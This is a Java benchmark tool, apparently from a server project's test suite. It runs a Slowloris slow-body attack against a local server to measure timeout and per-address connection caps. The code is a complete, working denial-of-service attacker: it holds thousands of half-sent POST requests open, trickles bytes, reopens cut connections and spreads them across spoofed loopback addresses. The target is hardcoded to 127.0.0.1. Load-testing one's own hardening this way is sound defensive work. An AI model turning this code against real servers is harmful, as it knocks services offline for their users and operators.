import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

/**
 * The slow-body attack of the hardening issue, against a Raven on this machine, for the
 * benchmark (bench/run.sh slowloris; docs/BENCHMARKS.md). Keeps N connections open, each
 * sending POST /api/auth/obtain_token/ with Content-Length: 1000, the body "{", then one byte
 * every few seconds. A connection the server closes (408, or refused over the per-address cap)
 * is opened again a quarter second later, as an attacker would. Connections come from 127.0.0.2,
 * 127.0.0.3, ... (Linux routes all of 127/8 to loopback) and one "greedy" address opens more
 * than the per-address cap allows, to show the cap. Only ever connects to 127.0.0.1, and
 * stops after the given duration. One thread, non-blocking sockets: no JDK beyond 17 needed.
 *
 *   java bench/Slowloris.java --port 8080 [--connections 2000] [--seconds 60]
 *        [--addresses 40] [--greedy 100] [--interval 5]
 *
 * Prints progress to stderr and, at the end, one line "SLOWLORIS_RESULT {json}" to stdout.
 */
public final class Slowloris {
    private static final String HEAD = "POST /api/auth/obtain_token/ HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            + "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{";
    private static final String GREEDY_ADDRESS = "127.0.0.250";
    private static final long REOPEN_DELAY_NANOS = 250_000_000L;

    private final InetSocketAddress target;
    private final long intervalNanos;
    private final Selector selector = Selector.open();
    private final Set<Conn> open = new HashSet<>();
    private final Deque<Reopen> reopens = new ArrayDeque<>();
    // Tallies for the report.
    private long opened;
    private long cut408;
    private long otherAnswers;
    private long closedWithoutAnswer;
    private long greedyClosedWithoutAnswer;
    private long connectFailures;
    private long openSamples;
    private long openSum;

    private Slowloris(int port, long intervalNanos) throws IOException {
        this.target = new InetSocketAddress("127.0.0.1", port);
        this.intervalNanos = intervalNanos;
    }

    private static final class Conn {
        final String from;
        final SocketChannel channel;
        final StringBuilder answer = new StringBuilder();
        long nextByteAt;
        boolean connected;

        Conn(String from, SocketChannel channel) {
            this.from = from;
            this.channel = channel;
        }
    }

    private record Reopen(String from, long at) {
    }

    public static void main(String[] args) throws IOException {
        int port = 0;
        int connections = 2000;
        int seconds = 60;
        int addresses = 40;
        int greedy = 100;
        int interval = 5;
        for (int i = 0; i + 1 < args.length; i += 2) {
            int value = Integer.parseInt(args[i + 1]);
            switch (args[i]) {
                case "--port" -> port = value;
                case "--connections" -> connections = value;
                case "--seconds" -> seconds = value;
                case "--addresses" -> addresses = value;
                case "--greedy" -> greedy = value;
                case "--interval" -> interval = value;
                default -> throw new IllegalArgumentException("unknown option " + args[i]);
            }
        }
        if (port <= 0 || connections < 0 || connections > 20_000 || seconds < 1 || seconds > 3600
                || addresses < 1 || addresses > 240 || greedy < 0 || greedy > 1000 || interval < 1) {
            System.err.println("usage: java bench/Slowloris.java --port P [--connections 0..20000] [--seconds 1..3600]"
                    + " [--addresses 1..240] [--greedy 0..1000] [--interval SECONDS]");
            System.exit(2);
        }
        new Slowloris(port, interval * 1_000_000_000L).run(connections, addresses, greedy, seconds);
    }

    private void run(int connections, int addresses, int greedy, int seconds) throws IOException {
        long start = System.nanoTime();
        long end = start + seconds * 1_000_000_000L;
        // Ramp up over about two seconds so that the accept queue is not what refuses us.
        List<String> sources = new ArrayList<>();
        for (int i = 0; i < connections; i++) {
            sources.add("127.0.0." + (2 + i % addresses));
        }
        for (int i = 0; i < greedy; i++) {
            sources.add(GREEDY_ADDRESS);
        }
        long rampStep = sources.isEmpty() ? 0 : 2_000_000_000L / sources.size();
        for (int i = 0; i < sources.size(); i++) {
            reopens.add(new Reopen(sources.get(i), start + i * rampStep));
        }
        long nextReport = start + 5_000_000_000L;
        while (System.nanoTime() < end) {
            long now = System.nanoTime();
            while (!reopens.isEmpty() && reopens.peekFirst().at() <= now) {
                connect(reopens.pollFirst().from());
            }
            selector.select(100);
            for (SelectionKey key : selector.selectedKeys()) {
                Conn conn = (Conn) key.attachment();
                if (key.isValid() && key.isConnectable()) {
                    finishConnect(conn);
                } else if (key.isValid() && key.isReadable()) {
                    read(conn);
                }
            }
            selector.selectedKeys().clear();
            trickle(System.nanoTime());
            if (System.nanoTime() - start > 3_000_000_000L) { // after the ramp
                openSamples++;
                openSum += open.stream().filter(c -> c.connected).count();
            }
            if (System.nanoTime() >= nextReport) {
                nextReport += 5_000_000_000L;
                System.err.printf("slowloris: %d s, %d open, %d opened, %d cut with 408, %d closed without answer%n",
                        (System.nanoTime() - start) / 1_000_000_000L, open.stream().filter(c -> c.connected).count(),
                        opened, cut408, closedWithoutAnswer);
            }
        }
        for (Conn conn : new ArrayList<>(open)) {
            close(conn);
        }
        System.out.printf("SLOWLORIS_RESULT {\"target_connections\":%d,\"addresses\":%d,\"greedy\":%d,\"seconds\":%d,"
                        + "\"average_open\":%d,\"opened\":%d,\"cut_408\":%d,\"other_answers\":%d,"
                        + "\"closed_without_answer\":%d,\"greedy_closed_without_answer\":%d,\"connect_failures\":%d}%n",
                connections, addresses, greedy, seconds, openSamples == 0 ? 0 : openSum / openSamples, opened, cut408,
                otherAnswers, closedWithoutAnswer, greedyClosedWithoutAnswer, connectFailures);
    }

    private void connect(String from) {
        SocketChannel channel = null;
        try {
            channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.bind(new InetSocketAddress(from, 0));
            Conn conn = new Conn(from, channel);
            open.add(conn);
            if (channel.connect(target)) {
                finishConnect(conn);
            } else {
                channel.register(selector, SelectionKey.OP_CONNECT, conn);
            }
        } catch (IOException e) {
            connectFailures++;
            if (channel != null) {
                try {
                    channel.close();
                } catch (IOException ignored) {
                    // already failed
                }
            }
            reopens.addLast(new Reopen(from, System.nanoTime() + REOPEN_DELAY_NANOS));
        }
    }

    private void finishConnect(Conn conn) {
        try {
            if (!conn.connected) {
                conn.channel.finishConnect();
                conn.connected = true;
                opened++;
                conn.channel.register(selector, SelectionKey.OP_READ, conn);
                conn.channel.write(ByteBuffer.wrap(HEAD.getBytes(StandardCharsets.US_ASCII)));
                conn.nextByteAt = System.nanoTime() + intervalNanos;
            }
        } catch (IOException e) {
            connectFailures++;
            closeAndReopen(conn, false);
        }
    }

    private void read(Conn conn) {
        ByteBuffer buffer = ByteBuffer.allocate(2048);
        try {
            int n = conn.channel.read(buffer);
            if (n > 0) {
                conn.answer.append(new String(buffer.array(), 0, n, StandardCharsets.ISO_8859_1));
                return;
            }
        } catch (IOException e) {
            // reset by the server: counted below
        }
        closeAndReopen(conn, true);
    }

    private void trickle(long now) {
        for (Conn conn : new ArrayList<>(open)) {
            if (conn.connected && conn.nextByteAt <= now) {
                try {
                    conn.channel.write(ByteBuffer.wrap(new byte[] {' '}));
                    conn.nextByteAt = now + intervalNanos;
                } catch (IOException e) {
                    closeAndReopen(conn, true);
                }
            }
        }
    }

    private void closeAndReopen(Conn conn, boolean tally) {
        if (tally) {
            String answer = conn.answer.toString();
            if (answer.startsWith("HTTP/1.1 408")) {
                cut408++;
            } else if (answer.isEmpty()) {
                closedWithoutAnswer++;
                if (conn.from.equals(GREEDY_ADDRESS)) {
                    greedyClosedWithoutAnswer++;
                }
            } else {
                otherAnswers++;
            }
        }
        close(conn);
        reopens.addLast(new Reopen(conn.from, System.nanoTime() + REOPEN_DELAY_NANOS));
    }

    private void close(Conn conn) {
        open.remove(conn);
        try {
            conn.channel.close();
        } catch (IOException ignored) {
            // closing anyway
        }
    }
}
